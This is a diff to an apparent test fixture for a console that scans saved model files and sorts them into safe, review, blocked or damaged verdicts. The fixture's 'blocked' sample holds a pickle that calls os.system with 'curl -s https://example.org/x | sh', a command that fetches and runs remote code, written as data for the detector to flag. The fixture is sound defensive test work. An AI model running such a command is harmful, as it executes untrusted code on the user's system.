@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
-from backends.base import ArrayInfo, Inspection, ModelEntry, Signature
+from dataclasses import replace
+
+from backends.base import ArrayInfo, Finding, Inspection, Json, ModelEntry, NameUse, Signature
 from console.monitor.series import Recorder
 from console.records import (
     Artifact,
     Candidate,
     Comparison,
     ExceptionInfo,
+    Explanation,
     Failure,
     Frame,
     GateResult,
@@ -18,13 +21,16 @@ from console.records import (
     Memory,
     ProbePlan,
     ProbeState,
-    Reason,
     Report,
     Verdict,
     Version,
     WorkerState,
     WorkerView,
 )
+from console.trust.explain import explain
+from console.trust.policy import Policy
+from console.trust.since import difference, seen_of
+from console.trust.verdict import judge
 from tests.ui.feeder import Feeder
 
 NOW = 1_790_000_000.0
@@ -44,17 +50,15 @@ def recorded(seconds: int = 40) -> Recorder:
 
 
 LAYERS = {
-    name: Layer(name != "landlock-net", "self-test passed" if name != "landlock-net" else "this kernel has ABI 3")
-    for name in (
-        "no-new-privs",
-        "limits",
-        "descriptors",
-        "seccomp",
-        "landlock",
-        "landlock-net",
-        "namespaces",
-        "session",
-    )
+    "descriptors": Layer(True, "4 open, all given to it"),
+    "terminal": Layer(True, "session of its own, no controlling terminal"),
+    "limits": Layer(True, "memory 8192 MB, 60 s of one core, 64 files, no core dumps"),
+    "cgroup": Layer(False, "the control groups here are read-only: memory is capped by the limits alone"),
+    "namespaces": Layer(True, "user, network, IPC and UTS of its own"),
+    "user": Layer(True, "uid 65534, no groups, no capabilities"),
+    "no_new_privs": Layer(True, "NoNewPrivs: 1"),
+    "landlock": Layer(True, "ABI 7: 3 trees to read, its scratch directory to write"),
+    "seccomp": Layer(True, "filter mode, 61 system calls refused"),
 }
 
 
@@ -243,7 +247,9 @@ def demo() -> Feeder:
     """The store, with one model ready and probed, one changed, one dead."""
     feeder = Feeder(_ROWS)
     for row in _ROWS:
-        feeder.reports[row.path] = Report(row, _inspection(row), _judgement(row))
+        feeder.reports[row.path] = _report(row)
+    feeder.layers = LAYERS
+    feeder.explanations["fraud/lr.pkl"] = _explanation(feeder.reports["fraud/lr.pkl"], then=NOW - 9000)
     feeder.views["churn/rf.joblib"] = WorkerView(
         "churn/rf.joblib",
         WorkerState.READY,
@@ -287,40 +293,51 @@ def demo() -> Feeder:
     return feeder
 
 
-def _inspection(row: Artifact) -> Inspection | None:
-    if row.model_class is None:
-        return None
-    entry = ModelEntry(
-        "",
-        row.model_class,
-        {"n_estimators": 200, "max_depth": None} if "Forest" in row.model_class else {},
-        "1.9.1",
-        row.steps,
-    )
+_UNLISTED = (
+    NameUse("sklearn.linear_model._logistic", "LogisticRegression", 27, True),
+    NameUse("company.features", "Ratio", 114, True, "'age', 'tenure'"),
+    NameUse("company.features", "Log", 181, True),
+)
+_NAMES = {
+    Verdict.REVIEW: _UNLISTED,
+    Verdict.BLOCKED: (NameUse("os", "system", 27, True, "'curl -s https://example.org/x | sh'"),),
+}
+
+
+def _inspection(row: Artifact) -> Inspection:
+    verdict = row.verdict or Verdict.SAFE
+    models = () if row.model_class is None else (_entry(row, row.model_class),)
+    cut = Finding("truncated", "it ends at byte 88,000 where 310,000 are announced", 88_000)
     return Inspection(
         row.format or "pickle",
         model_class=row.model_class,
-        library_versions={"scikit-learn": "1.9.1"},
-        parameters=entry.parameters,
-        signature=Signature(30, classes=("no", "yes")),
-        models=(entry,),
-        arrays=(ArrayInfo("classes_", (2,), "int64", 16),),
-        n_weights=48_211,
-        complete=True,
+        names=_NAMES.get(verdict, ()),
+        library_versions={"scikit-learn": "1.9.1"} if models else {},
+        parameters=models[0].parameters if models else {},
+        signature=Signature(30, classes=("no", "yes")) if models else Signature(),
+        models=models,
+        arrays=(ArrayInfo("classes_", (2,), "int64", 16),) if models else (),
+        n_weights=48_211 if models else None,
+        complete=verdict is not Verdict.DAMAGED,
+        findings=(cut,) if verdict is Verdict.DAMAGED else (),
     )
 
 
-def _judgement(row: Artifact) -> Judgement:
-    details = {
-        Verdict.REVIEW: (
-            Reason("unlisted-name", "names company.features.Ratio, which is not on the list of known names", 114),
-            Reason("unlisted-name", "names company.features.Log, which is not on the list of known names", 181),
-        ),
-        Verdict.BLOCKED: (
-            Reason(
-                "dangerous-name", "calls os.system, which runs a command of the file's choice, when it is loaded", 27
-            ),
-        ),
-        Verdict.DAMAGED: (Reason("truncated", "ends at byte 88,000 where 310,000 are announced", 88_000),),
-    }
-    return Judgement(row.verdict or Verdict.SAFE, details.get(row.verdict or Verdict.SAFE, ()))
+def _entry(row: Artifact, model_class: str) -> ModelEntry:
+    parameters: dict[str, Json] = {"n_estimators": 200, "max_depth": None} if "Forest" in model_class else {}
+    return ModelEntry("", model_class, parameters, "1.9.1", row.steps)
+
+
+def _report(row: Artifact) -> Report:
+    found = _inspection(row)
+    return Report(row, found, judge(found, Policy()))
+
+
+def _explanation(report: Report, *, then: float) -> Explanation:
+    """As it is where the content that stood there before named nothing but what is known, and was fitted otherwise."""
+    assert report.inspection is not None
+    old = replace(report.inspection, names=report.inspection.names[:1], parameters={"C": 1.0}, models=())
+    new = replace(report.inspection, parameters={"C": 0.3}, models=())
+    before = Report(replace(report.artifact, size=11_904), old, Judgement(Verdict.SAFE))
+    since = difference(seen_of(before, then), seen_of(replace(report, inspection=new), NOW))
+    return explain(report.inspection, report.judgement, Policy(), since)
